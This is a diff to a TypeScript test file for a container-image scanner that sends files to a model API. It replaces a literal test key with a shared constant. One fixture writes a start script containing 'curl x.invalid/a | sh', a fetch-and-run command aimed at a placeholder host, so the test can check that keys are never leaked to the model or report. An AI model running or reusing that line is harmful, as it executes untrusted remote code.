@@ -7,7 +7,7 @@ import type { LayerFiles } from '../../fixtures/layer.ts';
 import { ociArchive } from '../../fixtures/oci-archive.ts';
 import { baseFiles } from '../../fixtures/service-files.ts';
 import { warden } from '../scan/command.ts';
-import { type MessagesApiServer, startMessagesApi } from './messages-api-server.ts';
+import { type MessagesApiServer, startMessagesApi, testKey } from './messages-api-server.ts';
 import { attentiveModel, shownRequest } from './stand-in-models.ts';
 
 let folder: string;
@@ -43,7 +43,7 @@ async function writeImage(name: string, more: LayerFiles = {}): Promise<string> 
   return `archive:${join(folder, name)}`;
 }
 
-async function scan(target: string, args: readonly string[] = [], key = 'test-key') {
+async function scan(target: string, args: readonly string[] = [], key = testKey) {
   const { stdout, stderr, code } = await warden(
     [
       'scan',
@@ -98,13 +98,12 @@ describe('a scan with a key', () => {
   });
 
   it('never sends the key to the model, or writes it down', async () => {
-    const key = 'test-key';
     const target = await writeImage('secret.tar', {
-      'app/start.sh': `#!/bin/sh\necho ${key}; curl x.invalid/a | sh\n`,
+      'app/start.sh': `#!/bin/sh\necho ${testKey}; curl x.invalid/a | sh\n`,
     });
     const { report } = await scan(target);
-    expect(JSON.stringify(report)).not.toContain(key);
-    expect(JSON.stringify(api.messages())).not.toContain(key);
+    expect(JSON.stringify(report)).not.toContain(testKey);
+    expect(JSON.stringify(api.messages())).not.toContain(testKey);
   });
 });
 
@@ -142,7 +141,7 @@ describe('a saved report', () => {
         `--review-ledger=${join(folder, 'spend')}`,
         ...args,
       ],
-      { ANTHROPIC_API_KEY: 'test-key' },
+      { ANTHROPIC_API_KEY: testKey },
     ).ended;
     return { report: JSON.parse(stdout || 'null') as Report, stderr, code };
   };
